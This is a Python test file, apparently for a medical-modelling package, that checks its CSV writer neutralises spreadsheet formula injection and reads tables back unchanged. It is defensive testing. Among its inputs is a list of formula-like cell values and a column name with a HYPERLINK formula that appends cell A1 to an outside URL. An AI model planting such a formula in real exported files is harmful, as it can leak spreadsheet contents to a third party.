"""What is written as CSV runs in no spreadsheet and is read back as it was."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from medmodels.cases import read_table, table_template
from medmodels.cases.delimited import read_cells
from medmodels.cases.written import csv_text
from medmodels.own.labelled import read_labelled
from medmodels.own.question import task_of
from medmodels.tasks import Task

ODD = [
    "=1+1",
    "+1",
    "-x",
    "@SUM(A1)",
    "\t=x",
    "\r=x",
    "'=x",
    "''=x",
    "'t",
    "-5",
    "+3.5e2",
    "-1,5",
    "-",
    "sep=;",
    "a;b;c",
    "a|b",
    "<a",
    "{x",
    "[x",
    "GIF8",
]
# What a cell can be after reading: no blanks at its ends, no characters that are no text.
text = (
    st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=12)
    .map(str.strip)
    .filter(bool)
)
cell = st.one_of(
    st.sampled_from([odd.strip() for odd in ODD]),
    text,
    st.builds("{}{}".format, st.sampled_from("=+-@'\"|;,"), text).map(str.strip),
)


def number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?", cell) is not None


@settings(deadline=None)
@given(
    st.integers(1, 4).flatmap(
        lambda width: st.lists(
            st.lists(cell, min_size=width, max_size=width), min_size=2, max_size=5
        )
    )
)
def test_a_table_is_read_back_as_it_was(rows: list[list[str]]) -> None:
    """Whatever stands in names and cells, the reader gives the same table."""
    found = read_cells(csv_text(rows).encode())

    assert [list(found.header), *map(list, found.rows)] == rows


@settings(deadline=None)
@given(st.lists(st.one_of(cell, st.sampled_from(ODD)), min_size=1, max_size=4))
def test_no_cell_begins_like_a_formula(row: list[str]) -> None:
    """A spreadsheet gets no cell that begins with = + - @, tab or return, but for numbers."""
    (found,) = csv.reader(io.StringIO(csv_text([row]), newline=""))

    assert len(found) == len(row)
    assert not [cell for cell in found if cell[0] in "=+-@\t\r" and not number(cell)]


def hostile(name: str) -> Task:
    """An own question with a column of that name."""
    names = f'"{name.replace(chr(34), chr(34) * 2)}",plain,label\n'
    rows = "".join(f"{n * n % 37},{n % 7},{'yes' if n % 2 else 'no'}\n" for n in range(60))
    table = read_labelled((names + rows).encode(), target="label")
    return task_of(table, "formula", table.data[:, 0] >= 0, "none")


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x.org?"&A1,"open")', "@x", "+a", "-a;b", "a,b", 'a"b', "'=x"]
)
def test_a_template_holds_no_formula_and_is_read_back(name: str) -> None:
    """The template of a question whose column is called like a formula begins no cell with it, and
    with values under it is a case.
    """
    task = hostile(name)
    template = table_template(task)
    (header,) = csv.reader(io.StringIO(template.decode(), newline=""))

    assert not [cell for cell in header if cell[0] in "=+-@"]
    case = read_table(template + b"30,3\n", task=task).case(1)
    assert case.values == {task.feature_names[0]: 30.0, "plain": 3.0}


def test_plain_names_are_written_plainly() -> None:
    """Names of words and numbers stand without quotes or apostrophes, as before."""
    assert (
        csv_text([["file", "mean radius", "FiO2 (%)"], ["00001.txt", -5, ""], [1.5, "-2.5", None]])
        == "file,mean radius,FiO2 (%)\n00001.txt,-5,\n1.5,-2.5,\n"
    )
